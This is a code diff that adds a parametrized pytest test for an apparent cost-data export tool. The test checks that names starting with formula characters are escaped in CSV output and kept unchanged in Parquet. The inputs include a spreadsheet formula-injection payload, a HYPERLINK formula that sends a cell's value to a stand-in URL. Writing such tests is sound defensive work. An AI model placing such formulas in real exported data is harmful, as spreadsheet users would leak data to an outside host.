@@ -150,6 +150,20 @@ def test_csv_says_every_digit_without_an_exponent_texts_in_quotes_and_nothing_fo
     assert ',"",' not in text, "which is no null"
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://example.com/?"&A1)', "+1", "@SUM(A1)", "-2"])
+def test_no_name_becomes_a_formula_in_csv_and_parquet_has_it_as_it_is(tmp_path: Path, name: str) -> None:
+    named = experiment(1, name=name, total_cost="1", extra={"metadata": {"dataset_name": name}})
+    lake = lake_of(tmp_path, named)
+    lake.replace(SESSIONS, NOON.date(), sessions_table(named), {})
+    rows = focus_costs(lake, MARCH, LATER).rows
+    for kind in ("csv", "parquet"):
+        write_focus(rows, tmp_path / f"out.{kind}")
+    (in_csv,) = csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text(), newline=""))
+    (in_parquet,) = pq.read_table(tmp_path / "out.parquet").to_pylist()
+    for column in ("ResourceName", "x_DatasetName"):
+        assert (in_csv[column], in_parquet[column]) == (f"'{name}", name)
+
+
 def test_a_parquet_file_says_by_which_version_of_the_specification_it_was_made(root: Path, tmp_path: Path) -> None:
     write_focus(focus_costs(Lake.open(str(root), query={}), MARCH, LATER).rows, tmp_path / "out.parquet")
     said = pq.read_schema(tmp_path / "out.parquet").metadata
